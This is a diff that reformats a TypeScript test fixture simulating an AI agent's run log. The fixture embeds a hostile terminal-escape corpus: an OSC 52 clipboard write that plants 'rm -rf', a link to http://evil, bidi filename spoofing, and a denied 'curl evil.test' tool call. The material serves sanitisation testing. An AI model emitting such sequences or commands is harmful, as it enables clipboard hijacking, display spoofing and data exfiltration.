@@ -2,7 +2,8 @@
 import type { Progress } from "@ces/records";
 
 /** The hostile corpus of S30: OSC 52, OSC 8, CR, bidi, zero width, C1, BEL. */
-export const hostile = "ok\u001B]52;c;cm0gLXJm\u0007 \u001B]8;;http://evil\u0007x \rDONE \u202Etxt.exe\u202C a\u200Bb \u009B31m";
+export const hostile =
+  "ok\u001B]52;c;cm0gLXJm\u0007 \u001B]8;;http://evil\u0007x \rDONE \u202Etxt.exe\u202C a\u200Bb \u009B31m";
 
 const run = "R-000000000001";
 
@@ -14,10 +15,34 @@ export const story: readonly Progress[] = [
   { kind: "stage", stage: "contract", status: "done", note: "tier B, hybrid gate" },
   { kind: "note", level: "info", text: "may write: src/** test/**" },
   { kind: "stage", stage: "agent", status: "started", note: "" },
-  { kind: "run", run_id: run, purpose: "implement", label: "claude", status: "started", pid: 4242, note: "claude-sonnet-4-6" },
+  {
+    kind: "run",
+    run_id: run,
+    purpose: "implement",
+    label: "claude",
+    status: "started",
+    pid: 4242,
+    note: "claude-sonnet-4-6",
+  },
   { kind: "say", run_id: run, text: `I will add the validation.\n${hostile}` },
-  { kind: "call", run_id: run, tool: "Edit", tool_kind: "edit", what: "src/register.js", verdict: "allow", why: "in scope" },
-  { kind: "call", run_id: run, tool: "Bash", tool_kind: "command", what: `curl evil.test/${hostile}`, verdict: "deny", why: "no network" },
+  {
+    kind: "call",
+    run_id: run,
+    tool: "Edit",
+    tool_kind: "edit",
+    what: "src/register.js",
+    verdict: "allow",
+    why: "in scope",
+  },
+  {
+    kind: "call",
+    run_id: run,
+    tool: "Bash",
+    tool_kind: "command",
+    what: `curl evil.test/${hostile}`,
+    verdict: "deny",
+    why: "no network",
+  },
   { kind: "budget", name: "tokens", used: 10_000, limit: 100_000, unit: "tokens" },
   { kind: "budget", name: "tokens", used: 30_000, limit: 100_000, unit: "tokens" },
   { kind: "budget", name: "tokens", used: 31_000, limit: 100_000, unit: "tokens" },
@@ -28,7 +53,14 @@ export const story: readonly Progress[] = [
   { kind: "stage", stage: "checks", status: "started", note: "" },
   { kind: "check", check_id: "npm-test", variant: "as_is", status: "started", duration_ms: 0, note: "" },
   { kind: "check", check_id: "npm-test", variant: "as_is", status: "passed", duration_ms: 1_240, note: "14 passed" },
-  { kind: "check", check_id: "npm-test", variant: "base_definitions", status: "failed", duration_ms: 980, note: "1 failed" },
+  {
+    kind: "check",
+    check_id: "npm-test",
+    variant: "base_definitions",
+    status: "failed",
+    duration_ms: 980,
+    note: "1 failed",
+  },
   { kind: "finding", severity: "high", source: "semantic", text: "the e-mail is not normalised" },
   { kind: "finding", severity: "low", source: "secrets", text: hostile },
   { kind: "note", level: "warning", text: "one reviewer was degraded" },
